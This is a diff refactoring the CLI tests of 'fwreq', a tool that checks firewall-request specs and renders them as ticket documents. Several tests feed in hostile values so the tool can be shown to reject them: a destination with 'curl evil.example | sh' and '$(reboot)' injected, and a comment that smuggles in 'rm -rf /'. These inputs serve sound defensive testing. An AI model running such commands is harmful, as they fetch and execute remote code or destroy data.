@@ -1,12 +1,16 @@
 //! CLI sessions: what an engineer types, what fwreq prints, and the exit code.
 
 use crate::common;
+use common::write;
 
+use assert_cmd::assert::OutputAssertExt as _;
 use assert_cmd::cargo::cargo_bin_cmd;
 use common::HEADER;
 use predicates::prelude::*;
 use std::fs;
-use std::path::{Path, PathBuf};
+
+use std::path::Path;
+use std::process::Output;
 
 /// A valid one-rule request, clean of lints.
 fn valid() -> String {
@@ -15,15 +19,27 @@ fn valid() -> String {
     )
 }
 
-fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
-    let path = dir.join(name);
-    fs::write(&path, text).unwrap();
-    path
-}
-
 /// Runs `fwreq check` on one spec; returns (exit code, stderr).
 fn check(text: &str) -> (i32, String) {
     common::check(text, &[])
+}
+
+/// [`check`] of a spec that must fail (exit 1): its stderr.
+fn check_fails(text: &str) -> String {
+    let (code, stderr) = check(text);
+    assert_eq!(code, 1, "{stderr}");
+    stderr
+}
+
+/// A folder with [`valid`] as `req.toml` and the team templates `files` in
+/// `tpl/`, and what `fwreq render req.toml --templates tpl` did there.
+fn render_with_templates(files: &[(&str, &str)]) -> (tempfile::TempDir, Output) {
+    let dir = common::folder_with(&[("req.toml", &valid())]);
+    for (name, text) in files {
+        write(dir.path(), &format!("tpl/{name}"), text);
+    }
+    let out = common::fwreq_in(dir.path(), &["render", "req.toml", "--templates", "tpl"]);
+    (dir, out)
 }
 
 #[test]
@@ -40,8 +56,7 @@ fn each_kind_of_bad_input_is_reported_at_its_value() {
 fn a_bad_ritm_number_gets_an_excerpt_a_caret_and_help() {
     let text = HEADER.to_string()
         + "ritm = \"RITM123\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n";
-    let (code, stderr) = check(&text);
-    assert_eq!(code, 1);
+    let stderr = check_fails(&text);
     assert_eq!(
         stderr,
         "req.toml:7:8: error: `RITM123` is not a RITM number
@@ -58,10 +73,7 @@ checked 1 request: 1 error, 0 warnings
 fn unknown_keys_suggest_the_nearest_one() {
     let text = format!("{HEADER}[[rules]]\nports = [443]\ndestination = [\"a.example.com\"]\n");
     let (_, stderr) = check(&text);
-    assert!(
-        stderr.contains("= help: did you mean `destinations`?"),
-        "{stderr}"
-    );
+    common::assert_contains(&stderr, "= help: did you mean `destinations`?");
 }
 
 #[test]
@@ -71,18 +83,16 @@ fn shell_injection_in_a_destination_is_refused_and_nothing_is_rendered() {
         "{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com; curl evil.example | sh\", \"$(reboot).example.com\"]\n"
     );
     write(dir.path(), "req.toml", &text);
-    cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml"])
-        .assert()
-        .code(1)
-        .stdout("")
-        .stderr(predicate::str::starts_with(
-            "req.toml:9:17: error: `;` is not allowed in a destination",
-        ))
-        .stderr(predicate::str::contains(
-            "req.toml:9:58: error: `$` is not allowed in a destination",
-        ));
+    let (code, out, err) = common::run(dir.path(), &["render", "req.toml"]);
+    assert_eq!((code, out.as_str()), (1, ""), "{err}");
+    common::assert_starts(
+        &err,
+        "req.toml:9:17: error: `;` is not allowed in a destination",
+    );
+    common::assert_contains(
+        &err,
+        "req.toml:9:58: error: `$` is not allowed in a destination",
+    );
 }
 
 #[test]
@@ -90,11 +100,10 @@ fn a_newline_in_a_comment_cannot_add_a_shell_line() {
     let text = format!(
         "{HEADER}[[rules]]\ncomment = \"\"\"ok\nrm -rf /\"\"\"\nports = [443]\ndestinations = [\"a.example.com\"]\n"
     );
-    let (code, stderr) = check(&text);
-    assert_eq!(code, 1);
-    assert!(
-        stderr.starts_with("req.toml:8:11: error: `comment` must be a single line"),
-        "{stderr}"
+    let stderr = check_fails(&text);
+    common::assert_starts(
+        &stderr,
+        "req.toml:8:11: error: `comment` must be a single line",
     );
 }
 
@@ -104,20 +113,16 @@ fn a_code_fence_cannot_close_the_shell_block() {
         "[[rules]]\n",
         "[[rules]]\ncomment = \"ok ``` now markdown\"\n",
     );
-    let (code, stderr) = check(&text);
-    assert_eq!(code, 1);
-    assert!(
-        stderr.starts_with(
-            "req.toml:8:11: error: a rule comment may not contain ``` (it would end the code block)"
-        ),
-        "{stderr}"
+    let stderr = check_fails(&text);
+    common::assert_starts(
+        &stderr,
+        "req.toml:8:11: error: a rule comment may not contain ``` (it would end the code block)",
     );
     let text = valid() + "[test]\ncommands = [\"echo ```\"]\n";
-    let (code, stderr) = check(&text);
-    assert_eq!(code, 1);
-    assert!(
-        stderr.starts_with("req.toml:12:13: error: a test command may not contain ```"),
-        "{stderr}"
+    let stderr = check_fails(&text);
+    common::assert_starts(
+        &stderr,
+        "req.toml:12:13: error: a test command may not contain ```",
     );
 }
 
@@ -133,36 +138,28 @@ fn every_file_is_checked_even_after_a_bad_one() {
         &valid().replace("443", "0"),
     );
     write(dir.path(), "notes.txt", "not a request");
-    cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["check", "."])
-        .assert()
-        .code(1)
-        .stderr(predicate::str::contains("./a.toml:1:9: error:"))
-        .stderr(predicate::str::contains(
-            "./nested/c.toml:8:10: error: port 0 is not a real port",
-        ))
-        .stderr(predicate::str::ends_with(
-            "checked 3 requests: 2 errors, 0 warnings\n",
-        ));
+    let (code, _, err) = common::run(dir.path(), &["check", "."]);
+    assert_eq!(code, 1, "{err}");
+    common::assert_contains(&err, "./a.toml:1:9: error:");
+    common::assert_contains(
+        &err,
+        "./nested/c.toml:8:10: error: port 0 is not a real port",
+    );
+    common::assert_ends(&err, "checked 3 requests: 2 errors, 0 warnings\n");
 }
 
 #[test]
 fn other_toml_files_are_named_as_not_requests() {
-    let (code, stderr) = check("[package]\nname = \"x\"\n");
-    assert_eq!(code, 1);
-    assert!(
-        stderr.starts_with(
-            "req.toml:1:1: error: not a request spec: it has none of `title`, `project`, `rules`"
-        ),
-        "{stderr}"
+    let stderr = check_fails("[package]\nname = \"x\"\n");
+    common::assert_starts(
+        &stderr,
+        "req.toml:1:1: error: not a request spec: it has none of `title`, `project`, `rules`",
     );
 }
 
 #[test]
 fn empty_and_non_utf8_files_get_an_error_not_a_panic() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "empty.toml", "");
+    let dir = common::folder_with(&[("empty.toml", "")]);
     fs::write(dir.path().join("binary.toml"), b"title = \"\xff\"\n").unwrap();
     cargo_bin_cmd!("fwreq")
         .current_dir(dir.path())
@@ -188,8 +185,7 @@ fn empty_and_non_utf8_files_get_an_error_not_a_panic() {
 
 #[test]
 fn check_of_a_clean_request_prints_only_the_summary() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
+    let dir = common::folder_with(&[("req.toml", &valid())]);
     cargo_bin_cmd!("fwreq")
         .current_dir(dir.path())
         .args(["check", "req.toml"])
@@ -201,20 +197,17 @@ fn check_of_a_clean_request_prints_only_the_summary() {
 
 #[test]
 fn a_missing_file_is_an_io_error_with_exit_2() {
-    cargo_bin_cmd!("fwreq")
-        .args(["check", "does-not-exist.toml"])
-        .assert()
-        .code(2)
-        .stderr(predicate::str::contains(
-            "does-not-exist.toml: no such file or directory",
-        ));
-    cargo_bin_cmd!("fwreq")
-        .args(["render", "does-not-exist.toml"])
-        .assert()
-        .code(2)
-        .stderr(predicate::str::starts_with(
-            "fwreq: error: cannot read does-not-exist.toml",
-        ));
+    for (command, said) in [
+        (
+            "check",
+            "fwreq: error: does-not-exist.toml: no such file or directory",
+        ),
+        ("render", "fwreq: error: cannot read does-not-exist.toml"),
+    ] {
+        let (code, _, err) = common::run(Path::new("."), &[command, "does-not-exist.toml"]);
+        assert_eq!(code, 2, "{command}: {err}");
+        common::assert_starts(&err, said);
+    }
 }
 
 #[test]
@@ -225,17 +218,16 @@ fn usage_errors_exit_2() {
 
 #[test]
 fn several_files_are_separated_by_a_rule_line() {
-    let dir = tempfile::tempdir().unwrap();
-    write(
-        dir.path(),
-        "a.toml",
-        &valid().replace("title = \"t\"", "title = \"First\""),
-    );
-    write(
-        dir.path(),
-        "b.toml",
-        &valid().replace("title = \"t\"", "title = \"Second\""),
-    );
+    let dir = common::folder_with(&[
+        (
+            "a.toml",
+            &valid().replace("title = \"t\"", "title = \"First\""),
+        ),
+        (
+            "b.toml",
+            &valid().replace("title = \"t\"", "title = \"Second\""),
+        ),
+    ]);
     let out = cargo_bin_cmd!("fwreq")
         .current_dir(dir.path())
         .args(["render", "a.toml", "b.toml"])
@@ -251,8 +243,7 @@ fn several_files_are_separated_by_a_rule_line() {
 
 #[test]
 fn output_file_is_written_whole_and_never_clobbered_without_force() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
+    let dir = common::folder_with(&[("req.toml", &valid())]);
     let run = |args: &[&str]| {
         cargo_bin_cmd!("fwreq")
             .current_dir(dir.path())
@@ -301,24 +292,15 @@ fn output_file_is_written_whole_and_never_clobbered_without_force() {
 
 #[test]
 fn team_templates_override_the_embedded_ones_file_by_file() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
-    fs::create_dir(dir.path().join("tpl")).unwrap();
-    write(
-        &dir.path().join("tpl"),
+    let (_dir, out) = render_with_templates(&[(
         "details.md.j2",
         "## Checks\n{% for rule in checks %}{% for d in rule.destinations %}{% for c in d.checks %}- `{{ c.command }}`\n{% endfor %}{% endfor %}{% endfor %}",
-    );
-    let out = cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml", "--templates", "tpl"])
-        .output()
-        .unwrap();
+    )]);
     let stdout = String::from_utf8(out.stdout).unwrap();
     assert!(out.status.success());
-    assert!(
-        stdout.contains("## Checks\n- `curl -vv telnet://a.example.com:443`\n"),
-        "{stdout}"
+    common::assert_contains(
+        &stdout,
+        "## Checks\n- `curl -vv telnet://a.example.com:443`\n",
     );
     // The embedded ticket and key points are still used.
     assert!(stdout.starts_with("# t\n"));
@@ -330,53 +312,33 @@ fn team_templates_override_the_embedded_ones_file_by_file() {
 /// the default templates still render a request of 10,000 destinations.
 #[test]
 fn an_error_in_an_included_template_names_each_level() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
-    fs::create_dir(dir.path().join("tpl")).unwrap();
-    let tpl = dir.path().join("tpl");
-    write(&tpl, "ticket.md.j2", "{% include \"inner.md.j2\" %}\n");
-    write(&tpl, "inner.md.j2", "a\n{{ \"a\" + 1 }}\n");
-    let out = cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml", "--templates", "tpl"])
-        .output()
-        .unwrap();
+    let (_dir, out) = render_with_templates(&[
+        ("ticket.md.j2", "{% include \"inner.md.j2\" %}\n"),
+        ("inner.md.j2", "a\n{{ \"a\" + 1 }}\n"),
+    ]);
     assert_eq!(out.status.code(), Some(2));
     let stderr = String::from_utf8(out.stderr).unwrap();
-    assert!(
-        stderr.starts_with(
-            "fwreq: error: template error: could not render include: error in \"inner.md.j2\" (in ticket.md.j2:1)\n  caused by: invalid operation: tried to use + operator on unsupported types string and number (in inner.md.j2:2)\n"
-        ),
-        "{stderr}"
+    common::assert_starts(
+        &stderr,
+        "fwreq: error: template error: could not render include: error in \"inner.md.j2\" (in ticket.md.j2:1)\n  caused by: invalid operation: tried to use + operator on unsupported types string and number (in inner.md.j2:2)\n",
     );
     // The excerpt is the innermost template's.
-    assert!(stderr.contains("   2 > {{ \"a\" + 1 }}\n"), "{stderr}");
+    common::assert_contains(&stderr, "   2 > {{ \"a\" + 1 }}\n");
 }
 
 #[test]
 fn a_runaway_template_stops_with_an_error() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
-    fs::create_dir(dir.path().join("tpl")).unwrap();
-    write(
-        &dir.path().join("tpl"),
+    let started = std::time::Instant::now();
+    let (dir, out) = render_with_templates(&[(
         "ticket.md.j2",
         "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}\n",
-    );
-    let started = std::time::Instant::now();
-    let out = cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml", "--templates", "tpl"])
-        .output()
-        .unwrap();
+    )]);
     assert_eq!(out.status.code(), Some(2));
     assert!(out.stdout.is_empty());
     let stderr = String::from_utf8(out.stderr).unwrap();
-    assert!(
-        stderr.starts_with(
-            "fwreq: error: template error: engine ran out of fuel (in ticket.md.j2:1)\n  help: a render may take 4000000 steps and make 256 MB of text; look for a loop that runs too long or a value that grows in the templates\n"
-        ),
-        "{stderr}"
+    common::assert_starts(
+        &stderr,
+        "fwreq: error: template error: engine ran out of fuel (in ticket.md.j2:1)\n  help: a render may take 4000000 steps and make 256 MB of text; look for a loop that runs too long or a value that grows in the templates\n",
     );
     assert!(started.elapsed() < std::time::Duration::from_secs(120));
     let many: Vec<String> = (0..10_000)
@@ -388,27 +350,14 @@ fn a_runaway_template_stops_with_an_error() {
     );
     assert_ne!(big, valid());
     write(dir.path(), "big.toml", &big);
-    let out = cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "big.toml"])
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    assert!(
-        String::from_utf8(out.stdout)
-            .unwrap()
-            .contains("h9999.example.com")
-    );
+    let (code, out, err) = common::run(dir.path(), &["render", "big.toml"]);
+    assert_eq!(code, 0, "{err}");
+    common::assert_contains(&out, "h9999.example.com");
 }
 
 #[test]
 fn a_missing_templates_directory_is_an_error_not_a_silent_fallback() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
+    let dir = common::folder_with(&[("req.toml", &valid())]);
     cargo_bin_cmd!("fwreq")
         .current_dir(dir.path())
         .args(["render", "req.toml", "--templates", "tempaltes"])
@@ -420,18 +369,9 @@ fn a_missing_templates_directory_is_an_error_not_a_silent_fallback() {
 
 #[test]
 fn a_broken_team_template_names_the_template_and_line() {
-    let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "req.toml", &valid());
-    fs::create_dir(dir.path().join("tpl")).unwrap();
-    write(
-        &dir.path().join("tpl"),
-        "details.md.j2",
-        "line one\n{{ no_such_value }}\n",
-    );
-    cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml", "--templates", "tpl"])
-        .assert()
+    let (_dir, out) =
+        render_with_templates(&[("details.md.j2", "line one\n{{ no_such_value }}\n")]);
+    out.assert()
         .code(2)
         .stdout("")
         .stderr(predicate::str::contains("details.md.j2:2"))
@@ -503,8 +443,7 @@ fn a_url_a_host_with_a_port_and_a_final_dot_say_what_to_write() {
     let text = format!(
         "{HEADER}[[rules]]\nports = [443]\ndestinations = [\n  \"https://registry.example.com/v2/\",\n  \"registry.example.com:8443\",\n  \"[2001:db8::1]:443\",\n  \"example.com.\",\n]\n"
     );
-    let (code, stderr) = check(&text);
-    assert_eq!(code, 1);
+    let stderr = check_fails(&text);
     assert_eq!(
         stderr,
         r#"req.toml:10:3: error: `https://registry.example.com/v2/` is a URL; a destination is a hostname or address
@@ -543,8 +482,7 @@ fn located(stderr: &str) -> Vec<&str> {
 #[test]
 fn every_type_and_key_error_of_a_file_is_reported_in_one_run() {
     let text = "title = \"t\"\nproject = 5\nrequest = \"r\"\nreason = \"r\"\naffected_apps = \"a\"\njustification = \"j\"\ncolour = \"red\"\n\n[test]\nstep = [\"x\"]\n\n[[rules]]\nports = \"443\"\ndestination = [\"a.example.com\"]\nprotocol = \"tcpp\"\n";
-    let (code, stderr) = check(text);
-    assert_eq!(code, 1, "{stderr}");
+    let stderr = check_fails(text);
     assert_eq!(
         located(&stderr),
         [
@@ -562,16 +500,12 @@ fn every_type_and_key_error_of_a_file_is_reported_in_one_run() {
             "  = help: did you mean `tcp`?",
         ]
     );
-    assert!(
-        stderr.ends_with("checked 1 request: 7 errors, 0 warnings\n"),
-        "{stderr}"
-    );
+    common::assert_ends(&stderr, "checked 1 request: 7 errors, 0 warnings\n");
     // The bracket hints are for `[rules]` and `[[test]]` only: a list or a
     // table elsewhere gets none.
-    let (code, stderr) = check(
+    let stderr = check_fails(
         "title = [\"t\"]\nproject = \"p\"\nrequest = \"r\"\nreason = \"r\"\naffected_apps = { a = \"b\" }\njustification = \"j\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n",
     );
-    assert_eq!(code, 1, "{stderr}");
     assert_eq!(
         located(&stderr),
         [
@@ -580,10 +514,9 @@ fn every_type_and_key_error_of_a_file_is_reported_in_one_run() {
         ]
     );
     // A port and a destination of the wrong type say what they take.
-    let (code, stderr) = check(&format!(
+    let stderr = check_fails(&format!(
         "{HEADER}[[rules]]\nports = [true]\ndestinations = [1]\n"
     ));
-    assert_eq!(code, 1, "{stderr}");
     let first: Vec<&str> = stderr
         .lines()
         .filter(|l| l.starts_with("req.toml:"))
@@ -599,24 +532,23 @@ fn every_type_and_key_error_of_a_file_is_reported_in_one_run() {
 
 /// A folder with one valid request expiring on 2026-12-01 and one with a typo.
 fn valid_and_invalid() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
-    write(
-        dir.path(),
-        "a.toml",
-        &valid().replace("title = \"t\"", "title = \"t\"\nexpires = 2026-12-01"),
-    );
-    write(dir.path(), "b.toml", &valid().replace("ports", "prts"));
-    dir
+    common::folder_with(&[
+        (
+            "a.toml",
+            &valid().replace("title = \"t\"", "title = \"t\"\nexpires = 2026-12-01"),
+        ),
+        ("b.toml", &valid().replace("ports", "prts")),
+    ])
 }
 
 #[test]
 fn expiring_and_list_status_show_an_invalid_file_and_exit_1() {
     let dir = valid_and_invalid();
     let error = "./b.toml:8:1: error: unknown field `prts`, expected one of `comment`, `protocol`, `ports`, `action`, `sources`, `destinations`, `fields`";
-    let out = common::fwreq_in(dir.path(), &["expiring", ".", "--today", "2026-11-26"]);
-    assert_eq!(out.status.code(), Some(1));
+    let (code, out, err) = common::run(dir.path(), &["expiring", ".", "--today", "2026-11-26"]);
+    assert_eq!(code, 1);
     assert_eq!(
-        common::stdout(&out),
+        out,
         format!(
             "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES     RULES  FLOWS  WHEN\n./a.toml  t{}  -     -    draft   -          2026-12-01  1      1      in 5 days\n./b.toml  (invalid) {error}  -     -    -       -          -           0      0\n",
             " ".repeat(error.len() + 5),
@@ -624,19 +556,16 @@ fn expiring_and_list_status_show_an_invalid_file_and_exit_1() {
         )
     );
     assert_eq!(
-        common::stderr(&out),
+        err,
         common::renew_or_remove("./a.toml")
             + "0 requests expired, 1 expiring within 30 days, 1 invalid file (as of 2026-11-26)\n"
     );
-    let out = common::fwreq_in(dir.path(), &["list", ".", "--status", "approved"]);
-    assert_eq!(out.status.code(), Some(1));
-    assert_eq!(
-        common::stdout(&out),
-        format!(
-            "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES  RULES  FLOWS\n./b.toml  (invalid) {error}  -     -    -       -          -        0      0\n",
-            " ".repeat(error.len() + 5)
-        )
+    let (code, out, _) = common::run(dir.path(), &["list", ".", "--status", "approved"]);
+    let table = format!(
+        "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES  RULES  FLOWS\n./b.toml  (invalid) {error}  -     -    -       -          -        0      0\n",
+        " ".repeat(error.len() + 5)
     );
+    assert_eq!((code, out), (1, table));
 }
 
 #[test]
@@ -694,41 +623,38 @@ fn within_takes_days_and_weeks_and_says_what_it_takes() {
     }
     let out = common::fwreq_in(dir.path(), &["expiring", "--within", "3x"]);
     assert_eq!(out.status.code(), Some(2));
-    assert!(
-        common::stderr(&out).starts_with(
-            "error: invalid value '3x' for '--within <DAYS>': `3x` is not a window: write days (30 or 30d) or weeks (4w)\n"
-        ),
-        "{}",
-        common::stderr(&out)
+    common::assert_starts(
+        &common::stderr(&out),
+        "error: invalid value '3x' for '--within <DAYS>': `3x` is not a window: write days (30 or 30d) or weeks (4w)\n",
     );
 }
 
 #[test]
 fn a_reader_that_stops_early_is_not_an_error_but_a_full_disk_is() {
+    // `fwreq render EXAMPLE > stdout`: its exit code and stderr.
+    let render_to = |stdout: std::process::Stdio| {
+        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin!("fwreq"))
+            .args(["render", "requests/avilla-calico-registry.toml"])
+            .stdout(stdout)
+            .output()
+            .unwrap();
+        (out.status.code(), common::stderr(&out))
+    };
     // `fwreq render ... | head -0`: the pipe's reader is gone before fwreq writes.
     let (reader, writer) = std::io::pipe().unwrap();
     drop(reader);
-    let out = std::process::Command::new(assert_cmd::cargo::cargo_bin!("fwreq"))
-        .args(["render", "requests/avilla-calico-registry.toml"])
-        .stdout(writer)
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(0));
-    assert_eq!(String::from_utf8(out.stderr).unwrap(), "");
+    assert_eq!(render_to(writer.into()), (Some(0), String::new()));
     // A write that fails for any other reason is reported, exit 2.
     let full = fs::OpenOptions::new()
         .write(true)
         .open("/dev/full")
         .unwrap();
-    let out = std::process::Command::new(assert_cmd::cargo::cargo_bin!("fwreq"))
-        .args(["render", "requests/avilla-calico-registry.toml"])
-        .stdout(full)
-        .output()
-        .unwrap();
-    assert_eq!(out.status.code(), Some(2));
     assert_eq!(
-        String::from_utf8(out.stderr).unwrap(),
-        "fwreq: error: No space left on device (os error 28)\n"
+        render_to(full.into()),
+        (
+            Some(2),
+            "fwreq: error: No space left on device (os error 28)\n".to_string()
+        )
     );
 }
 
@@ -736,42 +662,30 @@ fn a_reader_that_stops_early_is_not_an_error_but_a_full_disk_is() {
 fn one_output_file_and_one_html_page_take_one_request() {
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("out.md");
+    let output = out.to_str().unwrap();
     let two = [
         "requests/avilla-calico-registry.toml",
         "requests/albion-plant-time-and-logs.toml",
     ];
-    let refused = cargo_bin_cmd!("fwreq")
-        .arg("render")
-        .args(two)
-        .arg("-o")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(refused.status.code(), Some(2));
+    let here = Path::new(".");
+    let (code, _, err) = common::run(here, &["render", two[0], two[1], "-o", output]);
     assert_eq!(
-        String::from_utf8(refused.stderr).unwrap(),
-        "fwreq: error: --output takes one request file, got 2\n"
+        (code, err.as_str()),
+        (2, "fwreq: error: --output takes one request file, got 2\n")
     );
     assert!(!out.exists());
-    let refused = cargo_bin_cmd!("fwreq")
-        .arg("render")
-        .args(two)
-        .args(["--format", "html"])
-        .output()
-        .unwrap();
-    assert_eq!(refused.status.code(), Some(2));
-    assert!(refused.stdout.is_empty());
+    let refused = common::run(here, &["render", two[0], two[1], "--format", "html"]);
     assert_eq!(
-        String::from_utf8(refused.stderr).unwrap(),
-        "fwreq: error: --format html makes one page per request; give one file, or use `fwreq site` for many\n"
+        refused,
+        (
+            2,
+            String::new(),
+            "fwreq: error: --format html makes one page per request; give one file, or use `fwreq site` for many\n".to_string()
+        )
     );
     // One request: the file and the page are made.
-    let one = cargo_bin_cmd!("fwreq")
-        .args(["render", two[0], "--format", "html", "-o"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(one.status.code(), Some(0), "{one:?}");
+    let (code, _, err) = common::run(here, &["render", two[0], "--format", "html", "-o", output]);
+    assert_eq!(code, 0, "{err}");
     assert!(
         fs::read_to_string(&out)
             .unwrap()
